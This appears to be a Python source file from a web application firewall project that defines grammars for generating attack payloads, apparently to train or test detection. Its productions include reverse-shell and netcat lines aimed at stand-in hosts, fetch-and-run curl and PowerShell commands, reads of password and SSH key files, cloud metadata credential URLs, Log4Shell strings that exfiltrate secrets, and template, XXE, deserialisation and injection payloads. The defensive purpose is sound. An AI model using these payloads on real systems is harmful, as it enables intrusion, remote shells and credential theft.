"""Grammars of attacks in the languages of which public corpora have little. Written from the languages' manuals and
from the weaknesses' descriptions (CWE), never from a test set."""

from __future__ import annotations

from bascule.waf.logic.learn.grammar import Grammar

_WORDS = {
    "host": ["evil.example", "198.51.100.7", "cb.oast.example", "x7f3.attacker.test", "203.0.113.9:8443"],
    "word": ["a", "test", "1", "shop", "index", "foo", "report.pdf", "42", "x", ""],
    "file": ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/var/log/auth.log", "~/.ssh/id_rsa",
             "C:\\Windows\\win.ini", "/root/.bash_history", "WEB-INF/web.xml", ".env", "/app/config.yml"],
    "n": ["1", "2", "5", "7", "10", "49", "1337"],
}  # fmt: skip

SHELL: Grammar = {
    **_WORDS,
    "start": ["<word><sep><command><end>", "<word><sep><space><command><end>", "$(<command>)", "`<command>`",
              "<word>$(<command>)<word>", "<word>`<command>`", "<word>\n<command>\n", "<word>'<sep><command><sep>'",
              "<word>\"<sep><command><sep>\"", "<word>) <sep> <command>", "{<braced>}", "<word>|<braces>",
              "() { :;}; <command>", "<sep><brief><sep>", "'<sep><brief><sep>'", "<address><sep><brief>", "<word><sep> <brief>", "<word> <sep> <brief>", "\"|<brief>\"", "x.<ext>;<brief>", "<word> <sep> <windows>", "<windows_sep><windows>"],
    "brief": ["id", "ls", "pwd", "whoami", "dir", "env", "ps", "uname", "hostname", "ver"],
    "address": ["127.0.0.1", "8.8.8.8", "localhost", "10.0.0.1", "example.org"],
    "ext": ["jpg", "png", "txt", "pdf"],
    "sep": [";", "|", "||", "&&", "&", "%0a", ";;", "| |"[0:1]],
    "space": [" ", "\t", "${IFS}", "$IFS$9", " "],
    "end": ["", "", "", " #", ";", " |", "&", " 2>&1", " > /dev/null"],
    "gap": [" ", " ", "${IFS}", "$IFS", "\t", "<"],
    "braced": ["cat,/etc/passwd", "ls,-la", "curl,http://<host>/x", "ping,-c,3,<host>"],
    "braces": ["{cat,<file>}", "{id,}", "{wget,<host>/a}"],
    "command": ["id", "whoami", "uname -a", "cat<gap><file>", "c'a't<gap><file>", "c\\at <file>", "ls -la /",
                "sleep <n>", "ping -c <n> <host>", "curl http://<host>/`whoami`", "wget http://<host>/a.sh -O /tmp/a",
                "curl -s http://<host>/a.sh | sh", "nslookup $(whoami).<host>", "bash -i >& /dev/tcp/<host>/4444 0>&1",
                "nc -e /bin/sh <host> 4444", "python3 -c 'import os;os.system(\"id\")'", "perl -e 'print `id`'",
                "echo <n>$((<n>*<n>))", "expr <n> + <n>", "/???/c?t /???/p??s??", "/bin/cat <file>", "printenv",
                "ps aux", "netstat -an", "ifconfig", "rm -rf /tmp/x", "chmod 777 /tmp/a", "tail -n 5 <file>",
                "head <file>", "base64 <file>", "echo aWQ= | base64 -d | sh", "w'h'o'a'm'i", "wh$@oami", "w\\ho\\am\\i",
                "awk 'BEGIN{system(\"id\")}'", "find / -name x -exec id \\;", "php -r 'system(\"id\");'",
                "env x='() { :;}; echo y' bash -c z", "a=wh;b=oami;$a$b", "sh -c id", "busybox nc <host> 1 -e sh",
                "touch /tmp/p", "reboot", "shutdown -h now", "a=i;b=d;$a$b", "${PATH:0:1}bin${PATH:0:1}id", "who$()ami", "--use-askpass=/tmp/a", "cat ${HOME:0:1}etc${HOME:0:1}passwd", "mkfifo /tmp/f", "hostname", "$(printf 'id')", "echo $HOME", "crontab -l", "sudo -l"],
    "windows_sep": ["& ", "| ", "&& ", "|| ", "%0a", "\r\n"],
    "windows": ["dir c:\\", "type C:\\Windows\\win.ini", "ipconfig /all", "net user", "whoami /priv", "ver",
                "ping -n <n> <host>", "powershell -nop -w hidden -enc SQBFAFgA", "systeminfo", "tasklist",
                "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://<host>/a.ps1')\"",
                "certutil -urlcache -split -f http://<host>/a.exe a.exe", "cmd /c whoami", "cmd.exe /c dir",
                "bitsadmin /transfer x http://<host>/a c:\\a", "rundll32 javascript:x", "mshta http://<host>/a.hta",
                "wmic process call create calc", "reg query HKLM\\Software", "Get-ChildItem -Path C:\\",
                "Invoke-WebRequest -Uri http://<host>", "Start-Process calc.exe", "Start-Sleep -s <n>",
                "p^o^w^e^r^s^h^e^l^l -c id", "w^h^o^a^m^i", "echo %USERNAME%", "set /a <n>*<n>", "timeout /T <n>"],
}  # fmt: skip

TEMPLATE: Grammar = {
    **_WORDS,
    "start": ["{{<jinja>}}", "{{ <jinja> }}", "<word>{{<jinja>}}", "${<el>}", "#{<el>}", "*{<el>}", "@(<razor>)", "<%= <erb> %>",
              "%{<ognl>}", "${{<jinja>}}", "#set($x=<el>)$x", "{%<jinjatag>%}", "{php}<php>{/php}", "{<smarty>}",
              "<freemarker>", "$<velocity>", "~{<el>}", "__${<el>}__::.x", "{{<angular>}}", "<word>${<el>}", "[[<el>]]", "#(<el>)"],
    "jinja": ["<n>*<n>", "<n>*'<n>'", "config", "config.items()", "self.__init__.__globals__", "''.__class__.__mro__[<n>].__subclasses__()",
              "request.application.__globals__.__builtins__.__import__('os').popen('id').read()", "[].__class__.__base__",
              "cycler.__init__.__globals__.os.popen('id').read()", "lipsum.__globals__['os'].popen('id').read()",
              "request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')", "_self.env.registerUndefinedFilterCallback('exec')",
              "['id']|filter('system')", "['id',0]|sort('system')|join", "app.request.server.all|join(',')", "dump(app)", "<n>+<n>",
              "url_for.__globals__.current_app.config", "get_flashed_messages.__globals__", "joiner.__init__.__globals__.os", "settings.SECRET_KEY",
              "''|attr('__class__')", "range.constructor('return this')()", "this.constructor.constructor('return process')()"],
    "jinjatag": [" for x in ().__class__.__base__.__subclasses__() ", " set x=cycler.__init__ ", " import os ", " debug ",
                 " if ''.__class__.__mro__[1].__subclasses__() ", " include '/etc/passwd' "],
    "el": ["<n>*<n>", "T(java.lang.Runtime).getRuntime().exec('id')", "T(java.lang.System).getenv()", "''.getClass().forName('java.lang.Runtime')",
           "new java.lang.ProcessBuilder({'id'}).start()", "applicationScope", "sessionScope", "pageContext.request", "class.getResource('')",
           "@java.lang.Runtime@getRuntime().exec('id')", "''['class'].forName('javax.script.ScriptEngineManager').newInstance()", "<n>+<n>",
           "request.getSession().getServletContext()", "facesContext.getExternalContext()", "new java.util.Scanner(T(java.lang.Runtime))"],
    "ognl": ["(#_memberAccess['allowStaticMethodAccess']=true)", "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']", "<n>*<n>",
             "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "(#cmd='id')", "@java.lang.Runtime@getRuntime().exec('id')",
             "#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()"],
    "razor": ["<n>*<n>", "<n>+<n>", "System.Diagnostics.Process.Start('cmd.exe')", "System.IO.File.ReadAllText('<file>')"],
    "erb": ["<n>*<n>", "system('id')", "`id`", "File.open('<file>').read", "Dir.entries('/')", "IO.popen('id').readlines()", "exec('id')", "global.process.mainModule.require('child_process').execSync('id')"],
    "php": ["system('id');", "phpinfo();", "echo `id`;"],
    "smarty": ["system('id')", "$smarty.version", "$smarty.template_object->x", "php}echo `id`;{/php", "fetch file='<file>'", "Smarty_Internal_Write_File::writeFile('x','y')"],
    "freemarker": ["<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}", "${'freemarker.template.utility.Execute'?new()('id')}",
                   "<#assign x=object?api.class.getResource('/').getPath()>", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}"],
    "velocity": ["class.inspect('java.lang.Runtime').type.getRuntime().exec('id')", "x.class.forName('java.lang.Runtime')", "e.getClass().forName('java.lang.Runtime')"],
    "angular": ["constructor.constructor('alert(1)')()", "$on.constructor('alert(1)')()", "toString.constructor.prototype.charAt=[].join", "a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()"],
}  # fmt: skip

NOSQL: Grammar = {
    **_WORDS,
    "start": ['{"<op>": <value>}', '{"<name>": {"<op>": <value>}}', "<word>' || '<n>'=='<n>", "<word>'; return true; var x='", "';return(true);var x='",
              '{"$where": "<js>"}', '{"$or": [{}, {"<name>": "x"}]}', '{"$expr": {"$function": {"body": "<js>"}}}', "<word>' && this.password.match(/.*/)//",
              "<word>'; sleep(<n>000); '", "true, $where: '<n> == <n>'", "{$gt: ''}", "' || this.<name> == 'x", "<word>', $or: [ {}, { 'a':'a"],
    "op": ["$ne", "$gt", "$gte", "$lt", "$regex", "$in", "$nin", "$exists", "$where", "$not", "$elemMatch"],
    "value": ["null", '""', "1", '".*"', '"^a"', "[]", "true", '"admin"', '["admin","root"]'],
    "name": ["password", "username", "email", "role", "token", "id"],
    "js": ["sleep(<n>000)", "this.<name>.length > <n>", "return true", "function() { return this.<name> == 'a' }", "while(true){}", "this.<name>.match(/^a/)"],
}  # fmt: skip
NOSQL_NAMES: Grammar = {"start": ["<name>[<op>]"], "op": NOSQL["op"], "name": NOSQL["name"]}

LDAP: Grammar = {
    **_WORDS,
    "start": ["*)(<attribute>=*", "<word>*)(<attribute>=*))(|(<attribute>=*", "*)(|(<attribute>=*", "<word>)(&)", "<word>))(|(<attribute>=*", "*)(&", "admin)(&)",
              "*))%00", "*)(<attribute>=*)%00", "<word>)(!(&(<n>=0", "*)(<attribute>=a*", "(|(<attribute>=*)(<attribute>=*))", "(&(<attribute>=<word>)(<attribute>=*))", "admin)(|(<attribute>=*", "<word>)(<attribute>=<word>))(&(<attribute>=*"],
    "attribute": ["uid", "cn", "objectClass", "userPassword", "mail", "sn", "memberOf", "sAMAccountName", "description"],
}  # fmt: skip
XPATH: Grammar = {
    **_WORDS,
    "start": ["<word>' or <test> or '<n>'='<n>", "<word>'] | //* | a['", "' or count(//*)=<n> or '", "<word>'] | //<node>[<n>]/text() | a['", "' or string-length(name(/*[<n>]))=<n> or 'a'='b",
              "<word>' or substring(name(/*[<n>]),1,1)='a", "x' or name()='<node>' or 'x'='y", "') or contains(.,'') or ('", "'] or position()=<n> or a['", "//<node>[position()=<n>]/child::node()[position()=<n>]", "' and doc('http://<host>/x') and '1'='1",
              "x'+or+ancestor::node() or 'a'='b", "//<node>[position()=<n>]/<node>", "//*[local-name()='<node>']", "/*[<n>]/*[<n>]", "//<node>[last()]/<node>", "count(/child::node())", "name(/*[<n>])", "' or boolean(<n>) or '", "/descendant::<node>[<n>]", "//<node>[contains(name,'a')]", "//<node>/parent::*", "\" or \"<n>\"=\"<n>\" or //<node>/text()=\"", "' or //<node>/<node>[1]/text()='a"],
    "test": ["position()=1", "true()", "count(parent::*)=1", "string-length(//<node>)>1", "<n>=<n>", "contains(name(),'a')", "starts-with(//<node>,'a')"],
    "node": ["user", "password", "account", "node()", "*", "employee"],
}  # fmt: skip

XXE: Grammar = {
    **_WORDS,
    "start": ['<?xml version="1.0"?><doctype><r>&e;</r>', "<doctype><foo>&e;</foo>", '<?xml version="1.0" encoding="UTF-8"?>\n<doctype>\n<data>&e;</data>',
              '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://<file>"/></r>',
              '<?xml-stylesheet type="text/xml" href="http://<host>/a.xsl"?><a/>', '<xsl:stylesheet><xsl:value-of select="document(\'<file>\')"/></xsl:stylesheet>',
              '<svg xmlns="http://www.w3.org/2000/svg"><doctype><text>&e;</text></svg>', '<soap:Body><foo><![CDATA[<doctype><a/>]]></foo></soap:Body>'],
    "doctype": ['<!DOCTYPE r [<!ENTITY e SYSTEM "<uri>">]>', '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY e SYSTEM "<uri>">]>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "<uri>">%p;]>',
                '<!DOCTYPE r PUBLIC "-//A//B/EN" "http://<host>/e.dtd">', '<!DOCTYPE r SYSTEM "http://<host>/e.dtd">', '<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;">]>',
                '<!DOCTYPE r [<!ENTITY e PUBLIC "x" "<uri>">]>', "<!DOCTYPE r [<!ENTITY % a '<!ENTITY &#37; b SYSTEM \"<uri>\">'>%a;]>"],
    "uri": ["file://<file>", "http://<host>/x", "php://filter/convert.base64-encode/resource=index.php", "expect://id", "ftp://<host>:2121/", "jar:http://<host>/a.zip!/b", "netdoc:///etc/passwd", "gopher://<host>/_x", "file:///c:/windows/win.ini"],
}  # fmt: skip

SSRF: Grammar = {
    **_WORDS,
    "start": ["<scheme>://<inner><port>/<tail>", "<scheme>://<inner><port>", "http://169.254.169.254/<meta>", "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/latest/meta-data/",
              "gopher://<inner>:6379/_*1%0d%0a$4%0d%0aPING", "dict://<inner>:11211/stats", "file://<file>", "file:///etc/passwd", "ldap://<inner>:389/", "tftp://<host>/x", "http://good.example@<inner>/", "http://<inner>#@good.example/",
              "sftp://<host>:22/", "jar:http://<inner>!/", "netdoc:///etc/passwd", "http://<inner>%23.good.example/", "//<inner>/<tail>", "http:<inner>/", "phar:///tmp/a.jpg"],
    "scheme": ["http", "https", "http", "HTTP"],
    "inner": ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "0", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "10.0.0.1", "192.168.0.1", "172.16.0.10", "169.254.169.254", "127.0.0.1.nip.io", "localtest.me", "[0:0:0:0:0:ffff:7f00:1]", "0x7f.0x0.0x0.0x1", "127.0.0.53", "192.168.1.254"],
    "port": ["", ":80", ":22", ":6379", ":8080", ":9200", ":3306", ":2375"],
    "tail": ["", "admin", "server-status", "latest/meta-data/", "_cat/indices", "v1.24/containers/json", "actuator/env"],
    "meta": ["latest/meta-data/", "latest/user-data", "latest/meta-data/iam/security-credentials/", "metadata/instance?api-version=2021-02-01", "metadata/v1.json", "opc/v1/instance/", "latest/dynamic/instance-identity/document"],
}  # fmt: skip

CODE: Grammar = {
    **_WORDS,
    "start": ["<php>", "<?php <php_statement> ?>", "<?= <php_call> ?>", "<java>", "<python>", "<node>", "<ruby>", "<dotnet>", "<serialised>"],
    "php": ["<php_statement>", "${@<php_call>}", "'.<php_call>.'", "\";<php_statement>//", "');<php_statement>//", "{${<php_call>}}", "<word>;<php_statement>", "']);<php_statement>/*", "${<php_call>}", "1);<php_statement>"],
    "php_statement": ["<php_call>;", "eval($_POST['x']);", "@eval($_REQUEST[1]);", "echo <php_call>;", "print(<php_call>);", "die(<php_call>);", "$_=<php_call>;", "include $_GET['f'];", "assert($_POST['a']);"],
    "php_call": ["phpinfo()", "system('id')", "passthru('ls')", "shell_exec('whoami')", "exec('id')", "file_get_contents('<file>')", "base64_decode('aWQ=')", "md5(<n>)", "print_r(scandir('/'))", "call_user_func('system','id')", "create_function('','x')", "highlight_file('<file>')", "var_dump(<n>)",
                 "file_put_contents('s.php','<?php eval($_GET[0]);')", "popen('id','r')", "proc_open('id',[],$p)", "preg_replace('/x/e','phpinfo()','x')", "chr(112).chr(104)", "gzinflate(base64_decode('x'))", "var_dump(getenv())", "readfile('<file>')"],
    "java": ["java.lang.Runtime.getRuntime().exec(\"id\")", "Runtime.getRuntime().exec(\"calc\")", "new ProcessBuilder(\"id\").start()", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "new java.io.FileReader('<file>')", "Class.forName('java.lang.Runtime')", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('x')",
             "java.lang.System.getProperty('user.dir')", "java.net.URL('http://<host>/').openStream()", "groovy: \"id\".execute()", "'id'.execute().text", "new groovy.lang.GroovyShell().evaluate('x')"],
    "python": ["__import__('os').system('id')", "__import__('subprocess').check_output('id')", "eval(compile('x','','exec'))", "exec('import os')", "import os;os.system('id')", "open('<file>').read()", "globals()['__builtins__']", "().__class__.__bases__[0].__subclasses__()", "os.popen('id').read()", "subprocess.Popen(['id'])", "pickle.loads(x)", "yaml.load('!!python/object/apply:os.system [id]')", "!!python/object/apply:os.system ['id']"],
    "node": ["require('child_process').exec('id')", "require('child_process').execSync('id').toString()", "process.mainModule.require('fs').readFileSync('<file>')", "global.process.exit()", "process.env", "require('fs').readdirSync('/')", "this.constructor.constructor('return process')()", "eval('x')", "new Function('return process')()", "process.binding('spawn_sync')", "(function(){return require('os').hostname()})()", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
             '{"__proto__":{"admin":true}}', "__proto__[admin]=1", "constructor[prototype][x]=1", "constructor.prototype.x"],
    "ruby": ["system('id')", "`id`", "%x(id)", "Kernel.exec('id')", "IO.popen('id').read", "File.read('<file>')", "eval('x')", "open('|id')", "--- !ruby/object:Gem::Installer\ni: x", "--- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection"],
    "dotnet": ["System.Diagnostics.Process.Start(\"cmd.exe\",\"/c id\")", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd\"); %>", "<% Response.Write(CreateObject(\"WScript.Shell\").Exec(\"cmd /c id\").StdOut.ReadAll()) %>", "eval request(\"x\")", "System.IO.File.ReadAllText(\"<file>\")"],
    "serialised": ["O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "a:1:{i:0;O:9:\"Exception\":0:{}}", "O:+4:\"Evil\":1:{s:4:\"file\";s:5:\"x.php\";}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAABYXQAAWJ4", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", "cos\nsystem\n(S'id'\ntR.", "c__builtin__\neval\n(S'x'\ntR.", "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://<host>/a\",\"autoCommit\":true}", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
                   "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://<host>/a\"}]", "O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}", "<java><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></object></java>", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://<host>/\"]]]]"],
}  # fmt: skip

JNDI: Grammar = {
    **_WORDS,
    "start": ["<jndi>", "<word> <jndi>", "<jndi><word>"],
    "jndi": ["${jndi:<jscheme>://<host>/a}", "${dns:address|<host>}", "${url:UTF-8:http://<host>/}", "${script:javascript:x}", "${${lower:j}ndi:<jscheme>://<host>/a}", "${${::-j}${::-n}${::-d}${::-i}:<jscheme>://<host>/a}", "${jndi:<jscheme>://${env:AWS_SECRET_ACCESS_KEY}.<host>/}", "${jndi:${lower:l}${lower:d}ap://<host>/a}", "${${env:X:-j}ndi${env:X:-:}<jscheme>://<host>/}", "${sys:java.version}", "${env:PATH}", "${jnd${upper:ı}:<jscheme>://<host>/a}", "${j${k8s:k5:-ND}i:<jscheme>://<host>/}", "${${date:'j'}${date:'n'}di:dns://<host>}"],
    "jscheme": ["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"],
}  # fmt: skip

HTTP: Grammar = {
    **_WORDS,
    "start": ["<word><eol><field>", "<word><eol><field><eol><eol><body>", "<eol><field>", "<word><eol>HTTP/1.1 200 OK<eol>Content-Length: 0<eol><eol>", "<ssi>", "<mail>", "<proto>"],
    "eol": ["\r\n", "\n", "%0d%0a", "%0a", "%E5%98%8A%E5%98%8D", "\r\n", "\r\n "],
    "field": ["Set-Cookie: a=b", "Location: http://<host>/", "X-Injected: 1", "Content-Type: text/html", "Content-Length: 0", "Set-Cookie:admin=true", "Refresh: 0;url=http://<host>", "Access-Control-Allow-Origin: *", "X-XSS-Protection: 0", "Link: <http://<host>/a.css>"],
    "body": ["<script>alert(1)</script>", "<html>x</html>", "<h1>x</h1>"],
    "ssi": ['<!--#exec cmd="<ssicmd>"-->', '<!--#include virtual="<file>"-->', '<!--#include file="<file>" -->', '<!--#echo var="DOCUMENT_ROOT" -->', '<!--#printenv -->', '<!--#config errmsg="x"-->', '<esi:include src="http://<host>/a"/>', '<esi:debug/>', '<!--esi $(HTTP_COOKIE) -->'],
    "ssicmd": ["id", "ls", "cat /etc/passwd", "dir"],
    "mail": ["a@b.example<eol>Bcc: x@<host>", "subject<eol>Cc: x@<host><eol>", "a@b.example<eol>Subject: spam<eol><eol>text", "a@b.example%0aTo:x@<host>", "<word><eol>Content-Type: multipart/mixed; boundary=x<eol>", "V100 CAPABILITY<eol>V101 FETCH 4791:1", "QUIT<eol>MAIL FROM:<a@b.example>", "<word><eol>RCPT TO:<x@<host>>"],
    "proto": ["__proto__[<prop>]", "__proto__.<prop>", "constructor[prototype][<prop>]", "constructor.prototype.<prop>", '{"__proto__":{"<prop>":1}}', '{"constructor":{"prototype":{"<prop>":true}}}'],
    "prop": ["isAdmin", "polluted", "toString", "shell", "x"],
}  # fmt: skip

GRAMMARS: dict[str, tuple[str, Grammar]] = {
    "shell": ("rce", SHELL), "template": ("ssti", TEMPLATE), "nosql": ("nosqli", NOSQL), "nosql-names": ("nosqli", NOSQL_NAMES), "ldap": ("ldapi", LDAP),
    "xpath": ("xpath", XPATH), "xxe": ("xxe", XXE), "ssrf": ("ssrf", SSRF), "code": ("code", CODE), "http": ("crlf", HTTP), "jndi": ("log4shell", JNDI),
}  # fmt: skip
"""Grammars by name, with the class of attack they are of."""
